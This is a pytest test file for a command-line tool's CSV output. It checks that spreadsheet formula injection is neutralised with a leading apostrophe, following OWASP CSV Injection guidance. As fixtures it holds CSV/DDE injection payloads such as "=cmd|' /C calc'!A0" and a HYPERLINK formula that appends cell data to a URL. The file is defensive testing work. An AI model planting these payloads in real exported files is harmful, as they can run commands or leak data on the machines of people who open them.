"""Formula neutralising in every CSV vold writes (OWASP, "CSV Injection"): a text cell that begins with =, +, -, @,
a tab or a carriage return gets a leading apostrophe, so Excel and Google Sheets show it instead of running it.

The commands come from the command line's registry (every command whose --format offers csv); each runs on a
knowledge folder whose texts begin with formula characters (a --kb may come from anyone), and `check` on a file
of offers that does the same, in its names, its own columns and their headers. Numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
import yaml

#: Texts a spreadsheet would run as formulas (the issue's two among them).
HOSTILE = ['=HYPERLINK("http://x"&A1,"Klik")', "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
           "@SUM(A1)", "\tx=1"]
STARTS = ("=", "+", "-", "@", "\t", "\r")

CASES = {
    "estimate": ["-p", "43000"], "interventions": [], "law": [], "initiatives": [], "phases": [], "map": [],
    "evidence": [], "profile": [], "definition": [], "implementation": [], "documentation": [], "economy": [],
    "search": ["Klik"], "figures": [], "check": ["{offers}", "-p", "43000"], "kb validate": ["{kb}"], "kb info": [],
}


def csv_commands() -> list[str]:
    """The commands whose --format offers csv, from the command registry."""
    from workbooks import commands_offering

    return commands_offering("csv")


def test_every_csv_command_has_a_case() -> None:
    assert sorted(csv_commands()) == sorted(CASES)


def _poison(kb: Path) -> None:
    """Begin texts of the knowledge with formula characters: names, summaries, titles, labels."""
    def edit(name: str, change) -> None:
        path = kb / name
        data = yaml.safe_load(path.read_text(encoding="utf-8"))
        change(data)
        path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")

    def interventions(data: dict) -> None:
        for n, item in enumerate(data["interventions"][:len(HOSTILE)]):
            item["name"] = {"da": HOSTILE[n], "en": HOSTILE[n]}
            item["summary"] = {"da": HOSTILE[-1 - n], "en": HOSTILE[-1 - n]}

    def law(data: dict) -> None:
        for n, entry in enumerate(data["entries"][:len(HOSTILE)]):
            entry["title"] = {"da": HOSTILE[n], "en": HOSTILE[n]}

    def initiatives(data: dict) -> None:
        for n, item in enumerate(data["initiatives"][:len(HOSTILE)]):
            item["name"] = {"da": HOSTILE[n], "en": HOSTILE[n]}

    def prevalence(data: dict) -> None:
        for n, figure in enumerate(data["figures"][:len(HOSTILE)]):
            figure["label"] = {"da": HOSTILE[n], "en": HOSTILE[n]}

    edit("interventions.yaml", interventions)
    edit("law.yaml", law)
    edit("initiatives.yaml", initiatives)
    edit("prevalence.yaml", prevalence)


def _offers(folder: Path) -> Path:
    path = folder / "tilbud.csv"
    rows = [["tilbud", "indsats", "=cmd|' /C calc'!A0", "udgift"]]
    rows += [[text, "Safe Dates", text, amount] for text, amount in zip(HOSTILE, ["-500", "1.000", "2", "3", "4", "5"],
                                                                         strict=True)]
    out = io.StringIO()
    csv.writer(out, delimiter=";", lineterminator="\r\n").writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8")
    return path


def _number(cell: str) -> bool:
    """A cell vold wrote from a number (-500.0): numbers stay numbers."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("command", list(CASES))
def test_no_csv_cell_starts_a_formula(run, kb_copy: Path, tmp_path: Path, command: str) -> None:
    _poison(kb_copy)
    offers = _offers(tmp_path)
    args = [str(offers) if a == "{offers}" else str(kb_copy) if a == "{kb}" else a for a in CASES[command]]
    result = run(*command.split(), *args, "--kb", str(kb_copy), "--format", "csv")
    assert result.exit_code == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows
    cells = [cell for row in rows for cell in row]
    bad = [cell for cell in cells if cell.startswith(STARTS) and not _number(cell)]
    assert not bad, bad[:5]
    if command in ("interventions", "law", "initiatives", "check", "search", "estimate", "figures"):
        # the hostile texts are there, each behind its apostrophe
        assert any(cell.startswith("'") and cell[1:2] in STARTS for cell in cells), command


def test_check_csv_neutralises_the_planner_s_texts_and_keeps_numbers(run, tmp_path: Path) -> None:
    offers = _offers(tmp_path)
    rows = list(csv.DictReader(io.StringIO(run("check", str(offers), "--format", "csv").stdout)))
    header = list(rows[0])
    assert "own.=cmd|' /C calc'!A0" in header  # vold's own key prefix keeps an own header harmless too
    offered = [r for r in rows if r["kind"] == "offer"]
    # the reader strips a cell's spaces and tabs; what begins with a formula character then is neutralised
    names = [text.strip() for text in HOSTILE]
    assert sorted(r["offer"] for r in offered) == sorted("'" + n if n.startswith(STARTS) else n for n in names)
    amounts = {r["offer"]: r["amount"] for r in offered}
    assert amounts["'" + HOSTILE[0]] == "-500.0"  # a number vold writes stays a number, minus and all
    total = next(r for r in rows if r["kind"] == "amount-total")
    assert float(total["amount"]) == -500 + 1000 + 2 + 3 + 4 + 5


@pytest.mark.parametrize("value, written", [
    ("=1+2", "'=1+2"), ("+45 12345678", "'+45 12345678"), ("-2", "'-2"), ("@x", "'@x"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("a=b", "a=b"), ("", ""), (-2, -2), (2.5, 2.5), ("—", "—"),
])
def test_neutralise(value: object, written: object) -> None:
    from vold_cli.output.machine import neutralise

    assert neutralise(value) == written


def test_the_readme_says_so() -> None:
    readme = (Path(__file__).resolve().parents[1] / "README.md").read_text(encoding="utf-8")
    assert "gets a leading apostrophe" in " ".join(readme.split()) and "OWASP" in readme
